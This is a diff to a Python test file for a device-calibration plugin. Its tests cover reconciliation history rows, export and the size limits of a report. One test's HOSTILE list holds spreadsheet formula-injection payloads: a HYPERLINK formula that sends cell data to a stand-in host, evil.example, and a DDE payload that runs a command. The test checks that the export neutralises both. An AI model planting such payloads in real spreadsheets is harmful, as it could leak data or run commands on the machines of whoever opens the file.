@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import json
 from datetime import timedelta
 from pathlib import Path
 
@@ -13,7 +14,7 @@ from engine.rules import add_months
 from engine.testing import moments
 from engine.testing.kit import org_config
 from plugins.device_calibration.commands import export_rows, write_csv
-from plugins.device_calibration.models import CycleState, ReconcileReport
+from plugins.device_calibration.models import VIEW_MEMO, CycleState, ReconcileReport
 
 
 def _config() -> dict[str, object]:
@@ -55,6 +56,17 @@ async def test_reconciliation_digest_and_export(scenario_harness: object, tmp_pa
 
         started = CycleState.model_validate(await env.query("device_calibration", "CT-0001"))
         assert started.phase == "active" and started.due == today + timedelta(days=10)
+        # the reconciliation wrote the started cycle's "registered" row (in a batch), under the cycle's own key
+        assert [(r["日志编号"], json.loads(r["详情"])) for r in _registered(env, "CT-0001")] == [
+            (f"{env.workflow_id('device_calibration', 'CT-0001')}:1:1", {"due": started.due.isoformat()})]
+        assert [(e.cycle, e.seq) for e in h.history(started, "registered")] == [(1, 1)]
+        # and seeded it with the row it read: the cycle read nothing and wrote nothing to register
+        events = (await env.handle("device_calibration", "CT-0001").fetch_history()).events
+        assert not [e for e in events if e.HasField("activity_task_scheduled_event_attributes")]
+        # and gave it the view it keeps in its memo: the cycle did not need to write it
+        assert not [e for e in events if e.HasField("workflow_properties_modified_event_attributes")]
+        described = await env.handle("device_calibration", "CT-0001").describe()
+        assert (await described.memo_value(VIEW_MEMO))["due"] == started.due.isoformat()
         fixed = CycleState.model_validate(await env.query("device_calibration", "CT-0002"))
         assert fixed.due == new_due and h.history(fixed, "due_changed")[0].actor == "reconciliation"
         retired = await env.handle("device_calibration", "CT-0003").result()
@@ -65,6 +77,7 @@ async def test_reconciliation_digest_and_export(scenario_harness: object, tmp_pa
                                          id="acme:device_calibration:schedule:reconcile-again")
         second = ReconcileReport.model_validate(await again.result())
         assert {c.action for c in second.changes} == {"unchanged"}
+        assert len(_registered(env, "CT-0001")) == 1
 
         # weekly digest: the department head hears of the device due within 30 days, not the extended one
         digest = await env.start_workflow("device_calibration.WeeklyDigest", {"org": "acme"},
@@ -85,6 +98,11 @@ async def test_reconciliation_digest_and_export(scenario_harness: object, tmp_pa
         one = await export_rows(env.config, env.app.feishu, env.client, "acme", device="CT-0003")
         assert one and {r["device_id"] for r in one} == {"CT-0003"}
         assert any(r["action"] == "retired" for r in one)
+
+
+def _registered(env: object, device_id: str) -> list[dict[str, object]]:
+    return [r for r in h.log_rows(env.standin)  # type: ignore[attr-defined]
+            if r["设备编号"] == device_id and r["动作"] == "registered"]
 
 
 HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"详情")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
@@ -109,3 +127,16 @@ async def test_export_writes_formula_cells_as_text(scenario_harness: object, tmp
     reasons = [r["reason"] for r in read]
     assert reasons == [*("'" + text for text in HOSTILE), "校准合格，偏差 0.2%"]
     assert {r["detail"] for r in read} == {"-0.3"}  # a number stays a number
+
+
+def test_a_report_of_a_large_table_counts_every_change_and_lists_the_first() -> None:
+    """100,000 rows listed one by one would not fit in a Temporal payload: the report counts them all."""
+    from plugins.device_calibration.models import LISTED_CHANGES, ReconcileChange
+
+    report = ReconcileReport(org="acme", rows=100_000)
+    for i in range(100_000):
+        report.add(ReconcileChange(key=f"DEV-{i:05d}", action="unchanged" if i % 100 else "updated"))
+    assert report.count("unchanged") == 99_000 and report.count("updated") == 1_000 and report.fixes() == 1_000
+    listed = [c.action for c in report.changes]
+    assert listed.count("unchanged") == LISTED_CHANGES and listed.count("updated") == 1_000
+    assert len(report.model_dump_json()) < 2**20 // 4
